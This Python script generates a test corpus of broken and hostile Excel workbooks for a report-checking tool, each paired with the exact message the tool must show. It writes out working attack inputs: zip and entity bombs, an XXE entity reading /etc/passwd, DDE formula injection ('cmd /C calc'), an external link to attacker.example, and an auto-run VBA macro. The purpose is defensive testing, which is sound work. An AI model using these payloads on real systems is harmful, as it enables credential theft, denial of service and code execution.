"""Build the hostile and broken workbook corpus (issue #7).

Every file is generated here, from the toolkit's own template, at test time —
no binary is committed.  Each :class:`Case` carries what the user must see:
the verdict, the exit status of ``xxgk check`` and the exact Chinese message
(the reason of an unreadable file, or the message of the finding that marks
a tampered one).  ``docs/security.md`` lists the same kinds.

Run by hand to get the files on disk::

    python tests/corpus/make_corpus.py            # → tests/corpus/generated/
    python tests/corpus/make_corpus.py /tmp/c     # → /tmp/c
"""

from __future__ import annotations

import random
import re
import shutil
import struct
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from xml.etree import ElementTree as ET

if __package__ in (None, ""):  # run as a script
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from toolkit.spec import editions as E  # noqa: E402
from toolkit.spec import get_edition  # noqa: E402
from toolkit.xlsx.template import build_template  # noqa: E402
from toolkit.demo.sample import sample_info, sample_texts, sample_values  # noqa: E402

YEAR = {"2019": 2020, "2021": 2021}
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
      "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
      "p": "http://schemas.openxmlformats.org/package/2006/relationships"}
UNSAFE_XML = "含有不安全的 XML 内容（DTD、实体声明或外部实体引用，正常的 Excel 文件中不会出现），已拒绝读取"
ZIP_BOMB_BYTES = 200 * 1024 * 1024

# Formula / DDE injection payloads (CSV-injection classics), stored as text.
INJECTIONS = ['=HYPERLINK("http://x","y")', "=1+1", "+1+1", "-1+2", "@SUM(1+1)",
              "=cmd|' /C calc'!A0"]


@dataclass
class Case:
    """One corpus file and what the user must be told about it."""

    name: str  # short id
    path: Path
    verdict: str  # pass | fail | unreadable (xxgk check)
    message: str = ""  # exact reason (unreadable) or finding message (fail)
    rule: str = ""  # rule id of the finding carrying ``message``
    pattern: str = ""  # regex for the finding message, when a count in it is not ours to fix
    merge: str = "skip"  # sum | excluded | unreadable | ignored | skip (not put in the merge folder)
    unit: str = ""
    edition: str = "2021"
    values: dict = field(default_factory=dict)  # inputs, for totals (merge == "sum")
    texts: dict = field(default_factory=dict)

    @property
    def exit_code(self) -> int:
        return {"pass": 0, "verify": 0, "fail": 1, "unreadable": 2}[self.verdict]


# -- building blocks ---------------------------------------------------------------


def filled_book(edition: str = "2021", unit: str = "某某镇人民政府", seed: int = 0,
                unit_type: str = "乡镇", year: int | None = None, texts: dict | None = None):
    """The locked template filled with consistent sample data: (openpyxl Workbook, values, texts)."""
    ed = get_edition(edition)
    rng = random.Random(seed)
    values = sample_values(edition, rng, unit_type=unit_type)
    info = sample_info(unit, unit_type, year or YEAR[edition])
    texts = texts if texts is not None else sample_texts(unit, YEAR[edition], values, rng)
    wb = build_template(edition)
    for c in ed.cells:
        if c.kind == "input":
            wb[c.sheet][c.address].value = values[c.id]
        elif c.kind == "info":
            set_text(wb[c.sheet][c.address], info[c.row]) if c.type != "year" else \
                setattr(wb[c.sheet][c.address], "value", info[c.row])
        elif c.kind == "text" and c.col == "1":  # the whole section in its first paragraph cell,
            set_text(wb[c.sheet][c.address], texts[c.row])  # as a clerk may paste it
    return wb, values, texts


def set_text(cell, text: str) -> None:
    """Store ``text`` as a string even when it starts with ``=`` (openpyxl would make a formula)."""
    cell.value = text
    cell.data_type = "s"


def save(wb, path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)
    return path


def sheet_part(path: Path, sheet: str) -> str:
    """The zip member holding worksheet ``sheet`` (our own files: plain ElementTree is fine)."""
    with zipfile.ZipFile(path) as zf:
        wb = ET.fromstring(zf.read("xl/workbook.xml"))
        rels = ET.fromstring(zf.read("xl/_rels/workbook.xml.rels"))
    rid = next(s.get("{%s}id" % NS["r"]) for s in wb.iter("{%s}sheet" % NS["m"]) if s.get("name") == sheet)
    target = next(r.get("Target") for r in rels if r.get("Id") == rid)
    return target.lstrip("/") if target.startswith("/") else "xl/" + target


def repack(src: Path, dst: Path, replace: dict | None = None, add: dict | None = None,
           drop: set = frozenset(), level: int = 6) -> Path:
    """Copy a zip member by member; ``replace``/``add`` values are bytes or a writer callable."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED,
                                                      compresslevel=level) as zout:
        items = [(i.filename, replace.get(i.filename, None)) for i in zin.infolist()
                 if i.filename not in drop]
        for name, new in items + list(add.items()):
            data = zin.read(name) if new is None else new
            if callable(data):
                info = zipfile.ZipInfo(name, (2021, 1, 1, 0, 0, 0))
                info.compress_type = zipfile.ZIP_DEFLATED
                info._compresslevel = level  # honoured by ZipFile.open(info, "w")
                with zout.open(info, "w") as fh:
                    data(fh)
            else:
                zout.writestr(zipfile.ZipInfo(name, (2021, 1, 1, 0, 0, 0)), data,
                              compress_type=zipfile.ZIP_DEFLATED)
    return dst


def read_member(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as zf:
        return zf.read(name)


def ole_file(stream_name: str = "Workbook", payload: bytes = b"") -> bytes:
    """A minimal, valid OLE compound file (CFB v3) holding one stream.

    Enough for ``olefile`` to open it and list the stream — the container of
    a legacy ``.xls`` (stream "Workbook", BIFF8) and of ``vbaProject.bin``.
    """
    size = 4096  # at the mini-stream cutoff: stored in regular 512-byte sectors
    if not payload:
        # BIFF8 BOF (workbook globals) … EOF
        payload = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x1FAA, 1997, 0, 0x06) \
            + struct.pack("<HH", 0x000A, 0)
    stream = payload.ljust(size, b"\0")[:size]
    n = size // 512
    free, end, fatsect, nostream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack(
        "<HHHHH6sIIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, b"\0" * 6, 0, 1, 1, 0, 4096, end, 0, end, 0, 0)
    header += struct.pack("<I", free) * 108
    assert len(header) == 512
    fat = [fatsect, end] + [2 + i + 1 for i in range(n - 1)] + [end]
    fat_sector = struct.pack("<%dI" % 128, *(fat + [free] * (128 - len(fat))))

    def entry(name, typ, start, length, child=nostream):
        raw = name.encode("utf-16-le") + b"\0\0"
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw) if name else 0, typ, 1)
                + struct.pack("<III", nostream, nostream, child) + b"\0" * 16 + b"\0" * 4
                + b"\0" * 16 + struct.pack("<IQ", start, length))

    dir_sector = entry("Root Entry", 5, end, 0, child=1) + entry(stream_name, 2, 2, size) \
        + entry("", 0, 0, 0) + entry("", 0, 0, 0)
    return header + fat_sector + dir_sector + stream


def _xml_case(src: Path, dst: Path, part: str, transform) -> Path:
    return repack(src, dst, replace={part: transform(read_member(src, part))})


def _doctype(xml: bytes, dtd: str) -> bytes:
    """Put a DOCTYPE right after the XML declaration (or at the very start)."""
    m = re.match(rb"<\?xml[^>]*\?>", xml)
    at = m.end() if m else 0
    return xml[:at] + dtd.encode() + xml[at:]


# -- the corpus --------------------------------------------------------------------


def build_corpus(dest: str | Path) -> list[Case]:
    """Write every corpus file into ``dest`` (created); return the cases."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    ed = get_edition("2021")
    t3 = ed.layout("t3").name
    cases: list[Case] = []

    def add(case: Case) -> None:
        assert not any(c.name == case.name for c in cases), case.name
        cases.append(case)

    # Good reports (summed by merge).
    good = []
    for i, unit in enumerate(["甲镇人民政府", "乙镇人民政府", "丙街道办事处"]):
        wb, values, texts = filled_book("2021", unit, seed=100 + i)
        p = save(wb, dest / f"good-{i + 1}.xlsx")
        good.append(p)
        add(Case(f"good-{i + 1}", p, "pass", merge="sum", unit=unit, values=values, texts=texts))
    base = good[0]
    base_len = base.stat().st_size

    # --- not workbooks at all ---------------------------------------------------------
    (dest / "empty.xlsx").write_bytes(b"")
    add(Case("empty", dest / "empty.xlsx", "unreadable",
             "文件为空（0 字节），可能保存或传输失败，请重新获取", merge="unreadable"))
    (dest / "not-a-zip.xlsx").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    add(Case("not-a-zip", dest / "not-a-zip.xlsx", "unreadable",
             "不是 Excel 工作簿文件，请使用 xxgk 模板填写后另存为 .xlsx", merge="unreadable"))
    (dest / "csv-renamed.xlsx").write_bytes("单位名称,本年新收申请\n甲镇人民政府,12\n".encode("utf-8"))
    add(Case("csv-renamed", dest / "csv-renamed.xlsx", "unreadable",
             "不是 Excel 工作簿文件（看起来是文本或 CSV 文件被改了扩展名），请使用 xxgk 模板填写后另存为 .xlsx",
             merge="unreadable"))
    (dest / "pdf-renamed.xlsx").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")
    add(Case("pdf-renamed", dest / "pdf-renamed.xlsx", "unreadable",
             "这是 PDF 文件，不是 Excel 工作簿，请报送用 xxgk 模板填写的 .xlsx 文件", merge="unreadable"))
    (dest / "html-renamed.xlsx").write_bytes("<html><body><table><tr><td>甲镇</td></tr></table></body></html>"
                                             .encode("utf-8"))
    add(Case("html-renamed", dest / "html-renamed.xlsx", "unreadable",
             "这是网页或 XML 文件（可能是“另存为网页”或“XML 电子表格”），不是 .xlsx 工作簿，"
             "请在 Excel 中另存为“Excel 工作簿（*.xlsx）”", merge="unreadable"))
    (dest / "truncated.xlsx").write_bytes(base.read_bytes()[: base_len // 2])
    add(Case("truncated", dest / "truncated.xlsx", "unreadable",
             "文件已损坏（压缩包不完整或被截断），请重新获取原文件", merge="unreadable"))
    with zipfile.ZipFile(dest / "plain-zip.xlsx", "w") as zf:
        zf.writestr("readme.txt", "just a zip")
    add(Case("plain-zip", dest / "plain-zip.xlsx", "unreadable",
             "压缩包不是 Excel 工作簿（缺少 [Content_Types].xml）", merge="unreadable"))
    with zipfile.ZipFile(dest / "word-renamed.xlsx", "w") as zf:
        zf.writestr("[Content_Types].xml",
                    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                    'content-types"><Override PartName="/word/document.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        zf.writestr("_rels/.rels",
                    '<?xml version="1.0"?><Relationships xmlns="%s"><Relationship Id="rId1" Type="http://'
                    'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
                    'Target="word/document.xml"/></Relationships>' % NS["p"])
        zf.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="http://schemas.'
                    'openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>')
    add(Case("word-renamed", dest / "word-renamed.xlsx", "unreadable",
             "这是 Word 文档，不是 Excel 工作簿，请报送用 xxgk 模板填写的 .xlsx 文件", merge="unreadable"))
    from openpyxl import Workbook
    foreign = Workbook()
    foreign.active["A1"] = "单位名称"
    foreign.active["B1"] = "甲镇人民政府"
    save(foreign, dest / "foreign-workbook.xlsx")
    add(Case("foreign-workbook", dest / "foreign-workbook.xlsx", "unreadable",
             "不是用 xxgk 模板填写的工作簿（找不到模板标识和表格），请使用 xxgk template 生成的模板填写",
             merge="unreadable"))

    # --- encrypted, legacy ----------------------------------------------------------------
    from msoffcrypto.format.ooxml import OOXMLFile
    with open(base, "rb") as fin, open(dest / "encrypted.xlsx", "wb") as fout:
        OOXMLFile(fin).encrypt("123456", fout)
    add(Case("encrypted", dest / "encrypted.xlsx", "unreadable",
             "工作簿设置了打开密码（已加密），无法读取。请在 Excel 中取消密码"
             "（文件 → 信息 → 保护工作簿 → 用密码进行加密，清空密码）后重新报送", merge="unreadable"))
    (dest / "legacy.xls").write_bytes(ole_file())
    add(Case("legacy-xls", dest / "legacy.xls", "unreadable",
             "这是旧版 Excel 97-2003 格式（.xls），请用 Excel 另存为 .xlsx 后再处理，最好直接使用 xxgk 模板填写"))
    shutil.copy(dest / "legacy.xls", dest / "legacy-renamed.xlsx")
    add(Case("legacy-renamed", dest / "legacy-renamed.xlsx", "unreadable",
             "这是旧版 Excel 97-2003 格式（.xls），请用 Excel 另存为 .xlsx 后再处理，最好直接使用 xxgk 模板填写",
             merge="unreadable"))

    # --- resource attacks -------------------------------------------------------------------
    t3_part = sheet_part(base, t3)
    head = read_member(base, t3_part)
    head = head[: head.index(b"<sheetData>") + len(b"<sheetData>")]
    row = b'<row><c t="inlineStr"><is><t>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</t></is></c></row>'
    chunk = row * (1024 * 1024 // len(row))

    def bomb(fh):
        fh.write(head)
        for _ in range(ZIP_BOMB_BYTES // len(chunk)):
            fh.write(chunk)
        fh.write(b"</sheetData></worksheet>")

    p = repack(base, dest / "zip-bomb.xlsx", replace={t3_part: bomb}, level=9)
    with zipfile.ZipFile(p) as zf:
        info = zf.getinfo(t3_part)
    add(Case("zip-bomb", p, "unreadable",
             f"压缩包内“{t3_part}”的解压后大小异常（{info.file_size // 1024 // 1024} MB，"
             f"压缩比 {info.file_size // info.compress_size}:1），疑似压缩炸弹，已拒绝读取", merge="unreadable"))
    add(Case("zip-bomb-forged-size", _forge_size(p, dest / "zip-bomb-forged-size.xlsx", t3_part, 60_000),
             "unreadable", "文件已损坏（压缩包内容无法解压），请重新获取原文件", merge="unreadable"))

    lol = "".join(f'<!ENTITY lol{i} "{"&lol%d;" % (i - 1) * 10}">' for i in range(1, 10))
    billion = f'<!DOCTYPE worksheet [<!ENTITY lol0 "lol">{lol}]>'
    add(Case("entity-bomb", _xml_case(base, dest / "entity-bomb.xlsx", t3_part, lambda x: _doctype(
        x, billion).replace(b"<sheetData>", b'<sheetData><row r="99"><c r="A99" t="inlineStr"><is><t>'
                            b"&lol9;</t></is></c></row>", 1)), "unreadable", f"“{t3_part}”{UNSAFE_XML}",
             merge="unreadable"))
    cover = ed.layout("cover").name
    cover_part = sheet_part(base, cover)
    unit_addr = ed.by_id["info.unit_name"].address
    add(Case("xxe", _xml_case(base, dest / "xxe.xlsx", cover_part, lambda x: re.sub(
        rb'(<c r="%s"[^>]*>).*?</c>' % unit_addr.encode(),
        rb'<c r="%s" t="inlineStr"><is><t>&xxe;</t></is></c>' % unit_addr.encode(),
        _doctype(x, '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'), count=1)),
        "unreadable", f"“{cover_part}”{UNSAFE_XML}", merge="unreadable"))
    add(Case("external-dtd", _xml_case(base, dest / "external-dtd.xlsx", "xl/workbook.xml", lambda x: _doctype(
        x, '<!DOCTYPE workbook SYSTEM "http://127.0.0.1:9/evil.dtd">')), "unreadable",
        f"“xl/workbook.xml”{UNSAFE_XML}", merge="unreadable"))
    add(Case("million-rows", _xml_case(base, dest / "million-rows.xlsx", t3_part, lambda x: re.sub(
        rb'<dimension ref="[^"]+"', b'<dimension ref="A1:J1048576"', x, count=1)), "unreadable",
        f"工作表“{t3}”尺寸异常（声明的范围为 A1:J1048576），不像是年度报告填报表，已拒绝读取", merge="unreadable"))
    many = b"".join(b'<row r="%d">' % r + b"".join(b'<c r="%s%d"><v>1</v></c>' % (col, r) for col in
                                                     (b"K", b"L", b"M", b"N", b"O")) + b"</row>"
                    for r in range(100, 12_200))
    add(Case("cell-flood", _xml_case(base, dest / "cell-flood.xlsx", t3_part, lambda x: re.sub(
        rb'<dimension ref="[^"]+"\s*/>', b"", x).replace(b"</sheetData>", many + b"</sheetData>")),
        "unreadable", f"工作表“{t3}”中的单元格数量超过上限，已拒绝读取", merge="unreadable"))
    empty_rows = b"".join(b'<row r="%d"/>' % r for r in range(100, 320_100))  # numbered: ratio stays low
    add(Case("element-flood", _xml_case(base, dest / "element-flood.xlsx", t3_part, lambda x: re.sub(
        rb'<dimension ref="[^"]+"\s*/>', b"", x).replace(b"</sheetData>", empty_rows + b"</sheetData>")),
        "unreadable", f"工作表“{t3}”内容过多（超过 300000 个 XML 元素），不像是年度报告填报表，已拒绝读取",
        merge="unreadable"))
    flood = dest / "member-flood.xlsx"
    shutil.copy(base, flood)
    with zipfile.ZipFile(flood, "a", zipfile.ZIP_STORED) as zf:
        for i in range(12_000):
            zf.writestr(zipfile.ZipInfo(f"customXml/item{i}.xml"), b"")
    add(Case("member-flood", flood, "unreadable",
             f"压缩包内文件数量异常（{12_000 + len(zipfile.ZipFile(base).namelist())} 个），"
             "不像是年度报告填报表，已拒绝读取", merge="unreadable"))

    # --- other edition, tampering -----------------------------------------------------------
    wb19, v19, _ = filled_book("2019", "丁镇人民政府", seed=7, year=2021)
    ed19 = get_edition("2019")
    year19 = ed19.by_id["info.year"]
    add(Case("other-edition", save(wb19, dest / "other-edition-2019.xlsx"), "fail",
             f"{year19.ref}：报告年度为 2021 年，应使用 2021 版表格，但本工作簿是 2019 版模板，请换用 2021 版模板填写",
             rule=next(r["id"] for r in E.OTHER_RULES if r["check"] == "edition_year"), merge="excluded", unit="丁镇人民政府", edition="2019", values=v19))

    lay_t2 = ed.layout("t2")
    label_addr, label = next((a, lc.value) for a, lc in lay_t2.cells.items()
                             if not lc.cell_id and isinstance(lc.value, str) and lc.value.startswith("本年"))
    wb, *_ = filled_book("2021", "戊镇人民政府", seed=8)
    wb[lay_t2.name][label_addr].value = label + "（改）"
    add(Case("label-edited", save(wb, dest / "label-edited.xlsx"), "fail",
             f"{lay_t2.name}!{label_addr}：栏目名称被改动，应为“{label}”，实际为“{label}（改）”", rule="S-2"))

    total = ed.by_id["t3.new.total"]
    formula = str(ed.layout("t3").cells[total.address].value).lstrip("=").replace("$", "").upper()
    wb, *_ = filled_book("2021", "己镇人民政府", seed=9)
    wb[total.sheet][total.address].value = 999
    # The typed-over total is also the culprit of the rules it breaks: one finding, S-2's words
    # first, then the value it should have (issue #13).
    add(Case("formula-overwritten", save(wb, dest / "formula-overwritten.xlsx"), "fail",
             pattern=re.escape(f"{total.ref}（{total.label}）：合计公式“={formula}”被改写为数值 999，"
                               f"请恢复公式或使用原模板。{total.address} 应为 ") + r"\d+（.*",
             rule="S-2"))
    wb, *_ = filled_book("2021", "己镇人民政府", seed=9)
    wb[total.sheet][total.address].value = None
    add(Case("formula-deleted", save(wb, dest / "formula-deleted.xlsx"), "fail",
             f"{total.ref}（{total.label}）：合计公式“={formula}”被删除（单元格为空），请恢复公式或使用原模板",
             rule="S-2"))

    wb, *_ = filled_book("2021", "庚镇人民政府", seed=10)
    ws = wb[t3]
    ws.protection.sheet = False
    ws.insert_rows(int(re.sub(r"\D", "", ed.by_id["t3.public.natural"].address)))
    add(Case("row-inserted", save(wb, dest / "row-inserted.xlsx"), "fail", rule="S-2",
             pattern=re.escape(t3) + r"!A\d+：表格结构与模板不一致（\d+ 处栏目名称位置不符），可能插入或删除了行、列。"
             r"此处应为“[^”]+”，实际为“[^”]*”。可用 xxgk import 按栏目名称把数据搬进一份新模板"))

    t4 = ed.layout("t4").name
    wb, *_ = filled_book("2021", "辛镇人民政府", seed=11)
    wb[t4].title = "表四"
    add(Case("sheet-renamed", save(wb, dest / "sheet-renamed.xlsx"), "fail", rule="S-2",
             message=f"缺少工作表“{t4}”（工作簿中有未知工作表：表四，可能被改名），该表数据按空白处理"))
    text_sheet = ed.layout("text").name
    wb, *_ = filled_book("2021", "壬镇人民政府", seed=12)
    wb.remove(wb[text_sheet])
    add(Case("sheet-deleted", save(wb, dest / "sheet-deleted.xlsx"), "fail", rule="S-2",
             message=f"缺少工作表“{text_sheet}”，该表数据按空白处理"))
    wb, *_ = filled_book("2021", "癸镇人民政府", seed=13)
    wb.remove(wb["xxgk"])
    add(Case("meta-deleted", save(wb, dest / "meta-deleted.xlsx"), "unreadable",
             "工作簿缺少模板标识（隐藏的 xxgk 工作表被删除），无法确认表格版本，请把数据重新填入 xxgk 生成的模板",
             merge="unreadable"))

    # --- injection: formulas / DDE stored as text ---------------------------------------------
    for i, payload in enumerate(INJECTIONS[:2]):
        wb, values, texts = filled_book("2021", payload, seed=20 + i)
        name = f"inject-unit-{i + 1}.xlsx"
        add(Case(f"inject-unit-{i + 1}", save(wb, dest / name), "pass", merge="sum", unit=payload,
                 values=values, texts=texts))
    natural = ed.by_id["t3.new.natural"]
    for i, payload in enumerate(INJECTIONS[1:]):
        wb, *_ = filled_book("2021", f"注入{i}镇人民政府", seed=30 + i)
        set_text(wb[natural.sheet][natural.address], payload)
        add(Case(f"inject-number-{i + 1}", save(wb, dest / f"inject-number-{i + 1}.xlsx"), "fail", rule="R-2",
                 message=f"{natural.ref}（{natural.label}）：填写的“{payload}”不是数字，请填写阿拉伯数字（没有请填 0）"))
    wb, *_ = filled_book("2021", "子镇人民政府", seed=40)
    wb[natural.sheet][natural.address].value = "=cmd|' /C calc'!A0"  # a real formula (DDE)
    add(Case("dde-formula", save(wb, dest / "dde-formula.xlsx"), "fail", rule="S-2",
             message=f"{natural.ref}：填写单元格中出现了公式“=cmd|' /C calc'!A0”，请直接填写数字"))

    # --- external links, macros ----------------------------------------------------------------
    wb, values, texts = filled_book("2021", "丑镇人民政府", seed=41)
    p = save(wb, dest / "external-link.xlsx")
    _add_external_link(p)
    add(Case("external-link", p, "pass", merge="sum", unit="丑镇人民政府", values=values, texts=texts))
    wb, *_ = filled_book("2021", "寅镇人民政府", seed=42)
    p = save(wb, dest / "external-link-formula.xlsx")
    _add_external_link(p, formula_cell=(t3_part, total.address))
    add(Case("external-link-formula", p, "fail", rule="S-2",
             pattern=re.escape(f"{total.ref}（{total.label}）：合计公式被改动，应为“={formula}”，"
                               f"实际为“=[1]Sheet1!A1”。{total.address} 应为 ") + r"\d+（.*"))
    wb, values, texts = filled_book("2021", "卯镇人民政府", seed=43)
    p = save(wb, dest / "_tmp-macro.xlsx")
    _add_vba(p, dest / "foreign-macro.xlsm")
    p.unlink()
    add(Case("foreign-macro", dest / "foreign-macro.xlsm", "pass", merge="sum", unit="卯镇人民政府",
             values=values, texts=texts))

    # --- text oddities, names -------------------------------------------------------------------
    # 100 000 characters: beyond Excel's 32 767 per cell, so openpyxl would cut it — patch the XML.
    overview = ("一、总体情况。" + "依法依规做好政府信息公开工作。" * 7200)[:100_000]
    long_texts = {"overview": "@@LONG@@", "problems": "无", "other": "本年度未收取信息处理费。"}
    wb, values, _ = filled_book("2021", "辰镇人民政府", seed=44, texts=long_texts)
    p = save(wb, dest / "_tmp-long.xlsx")
    with zipfile.ZipFile(p) as zf:
        part = next(n for n in zf.namelist() if b"@@LONG@@" in zf.read(n))
    repack(p, dest / "long-text.xlsx", replace={part: read_member(p, part).replace(b"@@LONG@@", overview.encode())})
    p.unlink()
    add(Case("long-text", dest / "long-text.xlsx", "pass", merge="sum", unit="辰镇人民政府",
             values=values, texts={**long_texts, "overview": overview}))
    astral = "𠀀𠀁镇人民政府🏛️"
    astral_texts = {"overview": "全年公开信息😀𠮷条目，𝌆。", "problems": "无🙂", "other": "本年度未收取信息处理费。𩸽"}
    wb, values, texts = filled_book("2021", astral, seed=45, texts=astral_texts)
    add(Case("non-bmp", save(wb, dest / "non-bmp-𠀀.xlsx"), "pass", merge="sum", unit=astral,
             values=values, texts=texts))
    wb, values, texts = filled_book("2021", "巳镇人民政府", seed=46)
    add(Case("odd-name", save(wb, dest / "巳镇 \"2021年报\" '终稿' (1).xlsx"), "pass", merge="sum",
             unit="巳镇人民政府", values=values, texts=texts))
    lock = dest / "~$good-1.xlsx"
    user = b"zhangsan"
    lock.write_bytes((bytes([len(user)]) + user).ljust(55, b" ") + "zhangsan".encode("utf-16-le").ljust(110, b"\0"))
    add(Case("lock-file", lock, "unreadable",
             "这是 Excel 打开工作簿时自动生成的临时锁定文件（文件名以 ~$ 开头），不是报告，可以忽略；"
             "关闭 Excel 后它会自动消失", merge="ignored"))
    return cases


def _forge_size(src: Path, dst: Path, member: str, fake: int) -> Path:
    """Copy ``src`` and make ``member`` declare ``fake`` bytes uncompressed (headers lie)."""
    data = bytearray(src.read_bytes())
    with zipfile.ZipFile(src) as zf:
        info = zf.getinfo(member)
    # local header: uncompressed size at +22; central directory entry: at +24
    lh = info.header_offset
    assert data[lh:lh + 4] == b"PK\x03\x04"
    struct.pack_into("<I", data, lh + 22, fake)
    name = member.encode()
    cd = next(m.start() for m in re.finditer(rb"PK\x01\x02", bytes(data))
              if data[m.start() + 46:m.start() + 46 + len(name)] == name)
    struct.pack_into("<I", data, cd + 24, fake)
    dst.write_bytes(bytes(data))
    return dst


def _add_external_link(path: Path, formula_cell: tuple | None = None) -> None:
    """Add an ``xl/externalLinks/`` part pointing at a UNC path (and optionally a formula using it)."""
    link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="%s">'
            '<externalBook xmlns:r="%s" r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
            '<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>123456</v></cell></row>'
            '</sheetData></sheetDataSet></externalBook></externalLink>' % (NS["m"], NS["r"]))
    link_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="%s"><Relationship Id="rId1" '
                 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
                 'Target="file:///\\\\attacker.example\\share\\steal.xlsx" TargetMode="External"/>'
                 '</Relationships>' % NS["p"])
    ct = read_member(path, "[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    rels = read_member(path, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
    wbx = read_member(path, "xl/workbook.xml")
    wbx = re.sub(rb"(</sheets>)", rb'\1<externalReferences><externalReference xmlns:r="%s" r:id="rId99"/>'
                 rb"</externalReferences>" % NS["r"].encode(), wbx, count=1)
    replace = {"[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels, "xl/workbook.xml": wbx}
    if formula_cell:
        part, addr = formula_cell
        sheet = read_member(path, part)
        sheet, n = re.subn(rb'<c r="%s"([^>]*?)(/>|>.*?</c>)' % addr.encode(),
                           rb'<c r="%s"\1><f>[1]Sheet1!A1</f><v>123456</v></c>' % addr.encode(), sheet, count=1)
        assert n == 1
        replace[part] = sheet
    tmp = path.with_name(path.name + ".tmp")
    repack(path, tmp, replace=replace, add={
        "xl/externalLinks/externalLink1.xml": link.encode(),
        "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode()})
    tmp.replace(path)


def _add_vba(src: Path, dst: Path) -> None:
    """A foreign macro workbook: our filled template plus a vbaProject.bin, saved as .xlsm."""
    ct = read_member(src, "[Content_Types].xml")
    ct = ct.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    ct = ct.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.'
                    b'vbaProject"/></Types>')
    rels = read_member(src, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/'
        b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    # The stream text is what a hostile macro would hold; nothing in xxgk may ever run it.
    vba = ole_file("VBA", b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\n'
                          b'Shell "cmd /c calc"\r\nEnd Sub\r\n')
    repack(src, dst, replace={"[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels},
           add={"xl/vbaProject.bin": vba})


def build_duplicates(dest: str | Path, n: int = 1000, unit: str = "午镇人民政府", seed: int = 50):
    """``n`` byte-identical copies of one unit's report (file names differ); returns (paths, values)."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    wb, values, _ = filled_book("2021", unit, seed=seed)
    first = save(wb, dest / "dup-0000.xlsx")
    paths = [first]
    for i in range(1, n):
        p = dest / f"dup-{i:04d}.xlsx"
        shutil.copyfile(first, p)
        paths.append(p)
    return paths, values


if __name__ == "__main__":
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent / "generated"
    for case in build_corpus(out):
        print(f"{case.verdict:<10} {case.path.name:<34} {case.message or case.pattern}")
